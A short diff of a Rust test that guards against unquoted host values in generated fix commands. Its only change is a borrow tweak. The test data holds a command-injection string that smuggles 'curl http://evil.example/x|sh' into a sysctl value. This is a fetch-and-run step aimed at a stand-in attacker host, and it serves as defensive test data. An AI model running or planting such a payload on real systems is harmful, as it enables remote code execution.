@@ -372,7 +372,7 @@ fn a_fix_command_never_carries_an_unquoted_host_value() {
             "unquoted host value in a command: {f}"
         );
         says(
-            &f,
+            f,
             "sysctl -w net.core.somaxconn='4096; curl http://evil.example/x|sh'",
         );
     }
